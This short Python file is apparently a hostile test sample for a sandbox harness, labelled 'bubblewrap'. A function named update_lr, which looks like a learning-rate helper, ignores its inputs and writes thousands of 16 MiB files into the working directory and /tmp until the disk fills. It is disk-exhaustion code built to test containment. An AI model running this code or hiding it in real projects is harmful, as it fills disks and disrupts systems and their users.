"""Writes files until the disk is full.

expect: update_lr failed
levels: bubblewrap
"""
import os


def update_lr(learning_rate0, epoch_num, decay_rate):
    block = b"x" * (1 << 20)
    for folder in (os.getcwd(), "/tmp"):
        for i in range(10_000):
            with open(os.path.join(folder, f"dls-hostile-fill-{i}"), "wb") as out:
                for _ in range(16):
                    out.write(block)
    return 0.0
